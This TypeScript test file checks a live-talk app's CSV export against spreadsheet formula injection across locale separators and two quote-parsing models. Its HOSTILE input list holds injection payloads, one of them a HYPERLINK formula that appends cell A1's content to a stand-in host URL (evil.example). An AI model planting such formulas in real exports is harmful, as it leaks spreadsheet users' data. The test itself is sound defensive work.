/**
 * The talk's CSV read as spreadsheets of other locales read it. LibreOffice or Excel set to `;`
 * or to tabs splits `a;=1+1` and runs the `=1+1` it starts a cell with; quoting a cell that
 * holds the separator protects it only where the reader's quotes line up with ours, so a
 * formula sign after any separator inside a cell is defused too. Two ways of reading quotes
 * (LibreOffice Calc's import, and RFC 4180 as Excel and most libraries read it) × three
 * separators: no cell of the audience's text starts a formula, and read with commas every text
 * comes back whole in its column.
 */
import { describe, expect, test } from "bun:test";
import { emptyTalk, talkCsv, type TalkRecord } from "../../client/src/live/talk-export.ts";
import { csvCell } from "../../client/src/lib/csv.ts";

type Reader = (line: string, separator: string) => string[];

/**
 * LibreOffice Calc's CSV import (sc/source/ui/docshell/impex.cxx, ScanNextFieldFromString): a
 * field that starts with a quote (leading blanks skipped) runs until a quote followed by the
 * separator, blanks and the separator, or the line's end — a quote followed by anything else
 * is kept as text; doubled quotes are one; what follows the closing quote up to the separator
 * is kept. Any other field runs to the separator, its quotes kept.
 */
const libreOffice: Reader = (line, separator) => {
  const fields: string[] = [];
  let i = 0;
  const endQuote = (at: number) => {
    let j = at + 1;
    if (line[j] === " " && separator === " ") return true;
    while (line[j] === " ") j++;
    return j >= line.length || line[j] === separator;
  };
  while (i < line.length) {
    let field = "";
    let start = i;
    while (line[start] === " ") start++;
    if (line[start] === '"') {
      i = start + 1;
      for (;;) {
        if (i >= line.length) break;
        if (line[i] === '"') {
          if (line[i + 1] === '"') (field += '"'), (i += 2);
          else if (endQuote(i)) {
            i++;
            break;
          } else (field += '"'), i++;
        } else field += line[i++];
      }
      while (i < line.length && line[i] !== separator) field += line[i++];
    } else while (i < line.length && line[i] !== separator) field += line[i++];
    fields.push(field);
    i++;
  }
  return fields;
};

/** RFC 4180 as Excel and most libraries read it: a quote opens a field only at its start, the next lone quote closes it, and what follows is kept up to the separator. */
const rfc: Reader = (line, separator) => {
  const fields: string[] = [];
  let i = 0;
  while (i <= line.length) {
    let field = "";
    if (line[i] === '"') {
      i++;
      while (i < line.length) {
        if (line[i] === '"' && line[i + 1] === '"') (field += '"'), (i += 2);
        else if (line[i] === '"') {
          i++;
          break;
        } else field += line[i++];
      }
    }
    while (i < line.length && line[i] !== separator) field += line[i++];
    fields.push(field);
    i++;
  }
  return fields;
};

/** What the audience may type: each hides a formula behind a separator of some locale, behind quotes, or starts with one (the server turns tabs into spaces; the file does not count on it). */
const HOSTILE = [
  "a;=1+1",
  'x;=HYPERLINK("http://evil.example/?"&A1;"click")',
  '";=1+1',
  "b,=3+3",
  "=1+1",
  "+1;+2",
  "-3",
  "@SUM(A1)",
  "c;-4",
  'say "hi";@x',
  'p;"=2+2',
  'q,""+7',
  "t\t=5",
  "plain words",
];

function hostileTalk(): TalkRecord {
  const record = emptyTalk("deck", "ABC234", 0);
  record.questions = HOSTILE.map((text, i) => ({ id: `q${i}`, text, name: HOSTILE[(i + 1) % HOSTILE.length]!, votes: i, answered: false, hidden: false, at: Date.UTC(2026, 10, 26, 8, i) }));
  record.polls = [{ id: "p", question: "pick;=1", options: ["=a", "b;+c", '";-e'], multiple: false, counts: [1, 2, 3], voters: 6 }];
  return record;
}

const lines = (csv: string) => csv.split("\r\n").filter((line) => line !== "");
/** Text as the file carries it: a formula sign at the start or after a separator gets a `'`. */
const defused = (text: string) => {
  const inner = text.replace(/([,;\t\r\n]"*)([=+\-@])/g, "$1'$2");
  return /^"*[=+\-@\t\r]/.test(inner) ? `'${inner}` : inner;
};

describe("CSV for every locale's separator", () => {
  test("a cell holding `;` or a tab is quoted like one holding a comma; a formula sign at the start or after a separator gets a '", () => {
    expect(csvCell("a;b")).toBe('"a;b"');
    expect(csvCell("a\tb")).toBe('"a\tb"');
    expect(csvCell("a;=1+1")).toBe("\"a;'=1+1\"");
    expect(csvCell('p;"=2')).toBe("\"p;\"\"'=2\"");
    expect(csvCell("=1;2")).toBe("\"'=1;2\"");
    expect(csvCell("+1")).toBe("'+1");
    expect(csvCell("-1")).toBe("'-1");
    expect(csvCell("@x")).toBe("'@x");
    expect(csvCell('"=x')).toBe("\"'\"\"=x\"");
    // A sign not right after a separator is text as typed.
    expect(csvCell("a; =1, b - c")).toBe('"a; =1, b - c"');
    expect(csvCell("plain text")).toBe("plain text");
    expect(csvCell(-3)).toBe("-3");
  });

  for (const [readerName, read] of [["LibreOffice", libreOffice], ["RFC 4180", rfc]] as const) {
    for (const [name, separator] of [["comma", ","], ["semicolon", ";"], ["tab", "\t"]] as const) {
      test(`read as ${readerName} does with ${name} as the separator, no cell starts a formula`, () => {
        const cells = lines(talkCsv(hostileTalk())).flatMap((line) => read(line, separator));
        expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
      });
    }
    test(`read as ${readerName} does with commas, every question and name comes back whole in its column`, () => {
      const rows = lines(talkCsv(hostileTalk())).map((line) => read(line, ","));
      const questions = rows.slice(1, 1 + HOSTILE.length);
      expect(questions.map((row) => row.length)).toEqual(HOSTILE.map(() => 6));
      expect(questions.map((row) => row[0])).toEqual(HOSTILE.map(defused));
      expect(questions.map((row) => row[1])).toEqual(HOSTILE.map((_, i) => defused(HOSTILE[(i + 1) % HOSTILE.length]!)));
      expect(rows.filter((row) => row[0] === "'pick;'=1" || row[0] === "pick;'=1").map((row) => row[1])).toEqual(["'=a", "b;'+c", "\";'-e"]);
    });
  }
});
